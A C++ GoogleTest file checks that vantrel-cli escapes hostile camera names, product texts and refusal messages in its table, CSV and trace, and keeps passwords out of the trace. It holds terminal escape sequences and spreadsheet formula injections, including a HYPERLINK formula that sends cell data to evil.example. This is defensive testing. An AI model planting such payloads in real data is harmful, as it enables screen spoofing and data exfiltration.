// A hostile camera on the LAN: names, product texts, TXT values and refusals
// that carry terminal controls or spreadsheet formulas, against vantrel-cli's
// table, CSV, messages and trace. The HTTP assignment's trace names no password.
#include <gtest/gtest.h>
#include <unistd.h>

#include <string>
#include <vector>

#include "camera_lan.h"
#include "test_lan.h"

namespace {

using nlohmann::json;

using HostileTextLan = CameraLan;

// Retitles the terminal, clears it, starts a fake row; DEL and CSI (C1) after.
const std::string kName = "\x1b]0;owned\x07\x1b[2J\r\nFake\t\x7f\xc2\x9b";
// As the table shows it: the camera's bytes are 8-bit text, so C2 is an 'Â'.
const std::string kNameShown = "\\x1b]0;owned\\x07\\x1b[2J\\x0d\\x0aFake\\x09\\x7f\xc3\x82\\x9b";

// True when `text` holds a C0 control or DEL other than those `allowed`.
bool HasControl(const std::string& text, const std::string& allowed = "\n") {
    for (const char c : text) {
        const auto byte = static_cast<unsigned char>(c);
        if ((byte < 0x20 || byte == 0x7F) && allowed.find(c) == std::string::npos) return true;
    }
    return false;
}

// The table's lines, each with the three tabs between its four columns.
int TableLines(const std::string& text) {
    int lines = 0, tabs = 0;
    for (const char c : text) {
        tabs += c == '\t';
        if (c != '\n') continue;
        if (tabs != 3) return -1;
        ++lines;
        tabs = 0;
    }
    return lines;
}

TEST_F(HostileTextLan, CameraTextsReachPeopleVisibleAndNoPasswordIsTraced) {
    ASSERT_TRUE(lan.AddBasic(BasicRange(10, 14)));
    // An OID whose value holds "%Error" reads as a refusal: the camera writes the message.
    EmulatedCamera hostile =
        Cam(kName, "02:e5:a1:00:0d:01", "10.77.0.10", {{"http", true}, {"oids", {{"7.7", "%Error\x1b[2J\nSuccess"}}}});
    hostile.productName = "Z\xc2\x85\x1b[m";
    EmulatedCamera formula =
        Cam("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "02:e5:a1:00:0d:02", "10.77.0.11");
    formula.productName = "@SUM(1+1)";
    const EmulatedCamera web = WebCam("Web", "02:e5:a1:00:0d:03", "10.77.0.12");
    // Not listed (its TXT names no address), but traced with that text.
    const EmulatedCamera liar = Naming(WebCam("Liar", "02:e5:a1:00:0d:04", "10.77.0.14"), "\x1b[2J\n10.77.0.99");
    auto cams = StartCameras("cams", {hostile, formula, web, liar});

    // The table: a heading and one line a camera, the hostile one written out.
    std::string out, err;
    ASSERT_EQ(
        lan.Run("pc", {VANTREL_CLI, "--trace", "scan", "--sort", "hw"}, &out, false, std::chrono::seconds(60), &err),
        0);
    EXPECT_EQ(TableLines(out), 4) << out;
    EXPECT_FALSE(HasControl(out, "\n\t")) << out;
    EXPECT_NE(out.find("\n" + kNameShown + "\tZ\xc3\x82\\x85\\x1b[m\t02:e5:a1:00:0d:01\t10.77.0.10\n"),
              std::string::npos)
        << out;
    // The trace: one visible line each, the TXT value included.
    EXPECT_FALSE(HasControl(err)) << err;
    EXPECT_NE(err.find("ParseTXT: ip addr \"\\x1b[2J\\x0a10.77.0.99\" is no IPv4 address\n"), std::string::npos) << err;

    // The plan: formulas as text, for a spreadsheet and for provision alike.
    ASSERT_EQ(lan.Run("pc", {VANTREL_CLI, "scan", "--csv"}, &out), 0);
    EXPECT_NE(out.find(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",'@SUM(1+1),drovik\n"),
              std::string::npos)
        << out;

    // get into a pipe keeps the bytes; on a terminal they show written out.
    ASSERT_EQ(lan.Run("pc", {VANTREL_CLI, "--trace", "get", "10.77.0.10", "2.4"}, &out, false, std::chrono::seconds(30),
                      &err),
              0);
    EXPECT_EQ(out, kName + "\n");
    EXPECT_FALSE(HasControl(err)) << err;
    if (access("/usr/bin/script", X_OK) == 0) {
        ASSERT_EQ(
            lan.Run("pc",
                    {"/usr/bin/script", "-qec", std::string("'") + VANTREL_CLI + "' get 10.77.0.10 2.4", "/dev/null"},
                    &out),
            0);
        EXPECT_EQ(out, "\\x1b]0;owned\\x07\\x1b[2J\\x0d\\x0aFake\\x09\\x7f\\x9b\r\n");
    } else {
        std::printf("no /usr/bin/script here: get on a terminal not tried\n");
    }
    // The camera's refusal: the message's own line break, then the camera's text on one line.
    EXPECT_EQ(lan.Run("pc", {VANTREL_CLI, "get", "10.77.0.10", "7.7"}, &out, false, std::chrono::seconds(30), &err), 1);
    EXPECT_EQ(err, "Query for 7.7 failed with\n%Error\\x1b[2J\\x0aSuccess\n");

    // The HTTP assignment goes with the administrator's credentials; its trace names none.
    // clang-format off
    EXPECT_EQ(lan.Run("pc",
                      {VANTREL_CLI, "--trace", "assign", web.hwAddr, "--via", "mdns", "--ip", "10.77.0.13", "--subnet",
                       "255.255.255.0", "--gateway", "10.77.0.1", "--force"},
                      // clang-format on
                      &out, false, std::chrono::seconds(60), &err),
              0)
        << err;
    EXPECT_TRUE(cams->WaitForText("http 10.77.0.12:8080 GET /set.oid?", std::chrono::seconds(5)));
    EXPECT_NE(err.find("ReadURL http://10.77.0.12:8080/set.oid?"), std::string::npos) << err;
    EXPECT_EQ(err.find("qivnep"), std::string::npos) << err;
    EXPECT_EQ(err.find("root:"), std::string::npos) << err;
}

}  // namespace
